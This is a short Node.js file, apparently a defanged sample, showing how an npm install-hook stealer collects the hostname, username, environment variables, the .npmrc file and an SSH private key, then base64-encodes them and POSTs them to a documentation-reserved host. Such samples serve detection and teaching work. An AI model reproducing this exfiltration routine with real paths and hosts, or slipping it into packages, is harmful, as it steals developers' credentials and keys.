// Cerebro sample: the shape of an install-hook stealer. The home folder does not exist, only variables that begin with
// DEMO_ are taken, and the host is reserved for documentation.
const fs = require('fs');
const https = require('https');
const os = require('os');
const path = require('path');

const home = '/nonexistent/demo-home';

function readIfThere(file) {
  try {
    return fs.readFileSync(file, 'utf8');
  } catch (error) {
    return null;
  }
}

const report = {
  host: os.hostname(),
  user: os.userInfo().username,
  platform: process.platform,
  env: Object.fromEntries(Object.entries(process.env).filter(([name]) => name.startsWith('DEMO_'))),
  npmrc: readIfThere(path.join(home, '.npmrc')),
  key: readIfThere(path.join(home, '.ssh', 'id_rsa')),
};

const body = Buffer.from(JSON.stringify(report)).toString('base64');
const request = https.request({
  hostname: 'collector.example.com',
  port: 443,
  path: '/ingest',
  method: 'POST',
  headers: { 'Content-Type': 'text/plain', 'Content-Length': body.length },
});
request.on('error', () => {});
request.write(body);
request.end();
